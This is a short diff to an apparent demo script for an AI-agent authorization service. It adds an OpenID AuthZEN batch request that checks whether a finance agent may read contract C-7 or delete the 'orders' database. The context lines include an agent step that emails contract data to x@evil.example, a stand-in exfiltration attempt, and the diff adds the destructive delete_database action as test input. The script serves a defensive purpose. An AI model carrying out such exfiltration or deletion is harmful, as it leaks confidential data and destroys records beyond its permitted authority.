@@ -31,6 +31,16 @@ call POST /evaluate '{
   "steps": [{ "tool_name": "send_email", "arguments": { "to": "x@evil.example", "subject": "C-7", "body": "All." } }]
 }'
 
+# The same by OpenID AuthZEN: two questions at once, of one agent. The answers are yes and no.
+call POST /access/v1/evaluations '{
+  "subject": { "type": "agent", "id": "agent-finance-01" },
+  "resource": { "type": "contract", "id": "C-7" },
+  "evaluations": [
+    { "action": { "name": "read_contract", "properties": { "contract_id": "C-7" } } },
+    { "action": { "name": "delete_database", "properties": { "database": "orders" } } }
+  ]
+}'
+
 # Ask why, with every rule that was looked at; nothing is consumed.
 call POST /explain '{ "agent_name": "finance_agent", "tool_name": "read_contract", "arguments": { "contract_id": "C-7" } }'
 
